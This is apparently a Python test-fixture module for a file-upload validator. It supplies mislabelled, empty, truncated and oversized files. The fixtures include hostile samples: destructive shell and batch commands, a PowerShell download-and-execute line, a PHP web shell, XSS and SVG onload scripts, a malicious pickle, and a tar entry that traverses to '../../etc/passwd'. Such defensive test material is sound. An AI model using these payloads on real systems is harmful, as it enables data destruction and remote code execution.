"""Files of other kinds under accepted names, empty files and truncated ones."""

import gzip
import io
import tarfile

from tests import files
from tests.hostile.cases import Brought, brought

OTHERS: dict[str, bytes] = {
    "windows program": b"MZ\x90\x00\x03" + bytes(200),
    "linux program": b"\x7fELF\x02\x01\x01" + bytes(200),
    "mac program": b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(200),
    "java class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(100),
    "web assembly": b"\0asm\x01\x00\x00\x00" + bytes(50),
    "shell script": b"#!/bin/sh\nrm -rf /\n",
    "batch file": b"@echo off\r\ndel /q *.*\r\n",
    "powershell": b"Invoke-Expression (New-Object Net.WebClient).DownloadString('http://example.org')\n",
    "javascript": b"alert(document.cookie)//\n",
    "page": b"<!DOCTYPE html><html><script>alert(1)</script></html>",
    "drawing": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "php": b"<?php system($_GET['c']); ?>",
    "jsp": b'<%@ page import="java.io.*" %><% Runtime.getRuntime().exec("id"); %>',
    "rich text": b"{\\rtf1{\\object\\objocx}}",
    "old office file": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    "postscript": b"%!PS-Adobe-3.0\n(%pipe%id) (r) file\n",
    "shortcut": b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(100),
    "flash": b"CWS\x0a" + bytes(60),
    "seven zip": b"7z\xbc\xaf\x27\x1c" + bytes(60),
    "rar": b"Rar!\x1a\x07\x01\x00" + bytes(60),
    "gzip": gzip.compress(b"x" * 100),
    "database": b"SQLite format 3\x00" + bytes(100),
    "film": b"\x00\x00\x00\x18ftypmp42" + bytes(60),
    "icon": b"\x00\x00\x01\x00\x01\x00" + bytes(60),
    "pickle": b"\x80\x04\x95cposix\nsystem\n(S'id'\ntR.",
    "registry": b"Windows Registry Editor Version 5.00\r\n",
    "mail": b"From: a@example.org\r\nContent-Type: text/html\r\n\r\n<script>",
    "letters of nothing": b"\x00" * 512,
    "chance": bytes(range(256)) * 3,
}
PLACES = ("pdf", "png", "jpg", "xlsx", "ofd", "xml")
WRONG = ("file_content", "file_damaged", "file_script")


def wrong_kinds() -> list[Brought]:
    """Yield each other kind under two accepted names, pictures and documents under each other's."""
    found = []
    for place, (label, data) in enumerate(sorted(OTHERS.items())):
        for extension in (PLACES[place % 6], PLACES[(place + 1 + place // 6) % 6]):
            codes = (*WRONG, "file_expands") if extension == "xml" else WRONG  # a page begins with a DOCTYPE
            found.append(brought(label, extension, data, *codes))
    real = {"pdf": files.pdf(), "png": files.image("PNG"), "jpg": files.image("JPEG"), "xlsx": files.xlsx()}
    real |= {
        "gif": files.image("GIF"),
        "bmp": files.image("BMP"),
        "tiff": files.image("TIFF"),
        "webp": files.image("WEBP"),
    }
    for label, data in real.items():
        found += [brought(f"is {label}", each, data, *WRONG) for each in ("pdf", "png", "jpg", "xlsx") if each != label]
    found.append(brought("is tar", "xlsx", tar(), *WRONG))
    found.append(brought("is docx", "xlsx", files.archive("word/document.xml"), "file_content"))
    found.append(brought("is xlsx", "ofd", files.xlsx(), "file_content"))
    return found


def pieces() -> list[Brought]:
    """Yield empty, oversized and truncated files."""
    whole = {"pdf": files.pdf(), "png": files.image("PNG", size=(90, 90)), "jpg": files.image("JPEG", size=(90, 90))}
    whole |= {
        "xlsx": files.xlsx(),
        "ofd": files.archive("OFD.xml"),
        "xml": b"<EInvoice>" + b"<Amount>1.00</Amount>" * 30 + b"</EInvoice>",
    }
    found = [brought("empty", extension, b"", "file_empty") for extension in (*whole, "csv")]
    for extension, data in whole.items():
        half, most = data[: len(data) // 2], data[: -max(40, len(data) // 12)]
        found.append(brought("half", extension, half, *WRONG))
        found.append(brought("almost whole", extension, most, *WRONG))
    large = 20 * 1024**2 + 1
    found += [
        brought("too large", "pdf", whole["pdf"].ljust(large, b" "), "file_too_large"),
        brought("too large", "csv", b"1,".ljust(large, b"1"), "file_too_large"),
        brought("too large", "xml", b"<a>" + b" " * 2 * 1024**2 + b"</a>", "file_too_large"),
        brought("empty list", "csv", b"", "file_empty", door="list"),
        brought("list too large", "csv", b"1\n" * (5 * 1024**2 + 1), "file_too_large", door="list"),
    ]
    return found


def tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as file:
        member = tarfile.TarInfo("../../etc/passwd")
        member.size = 4
        file.addfile(member, io.BytesIO(b"root"))
    return out.getvalue()
